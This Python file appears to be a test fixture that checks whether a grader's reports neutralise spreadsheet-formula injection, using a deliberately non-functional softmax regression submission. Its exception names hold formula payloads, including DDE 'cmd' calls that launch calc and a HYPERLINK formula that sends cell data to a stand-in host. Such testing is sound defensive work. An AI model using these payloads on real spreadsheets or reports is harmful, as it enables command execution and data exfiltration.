"""Names exceptions like spreadsheet formulas, with commands, links and leading signs.

Lab: softmax_regression
Honest: the attempt's credit and little else: softmax is wrong and the manual step does nothing.
Expected: no gain; every report shows it as text: no tag, link, cell, colour or row of its own.
"""

import torch.nn as nn

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"score")',
    '"\n=1+1\n","100","100"',
)
TURNS = list(FORMULAS)


def softmax(X):
    TURNS.append(TURNS.pop(0))
    raise type(TURNS[0], (Exception,), {})(TURNS[0])


class SoftmaxRegression(nn.Module):
    def __init__(self, num_inputs, num_outputs):
        super().__init__()
        self.linear = nn.Linear(num_inputs, num_outputs)
        self.lr = 0.1

    def forward(self, X):
        raise type("=1+1", (Exception,), {})()

    def manual_backward(self, X, y, y_hat):
        raise type("@A1", (Exception,), {})("=1+1")
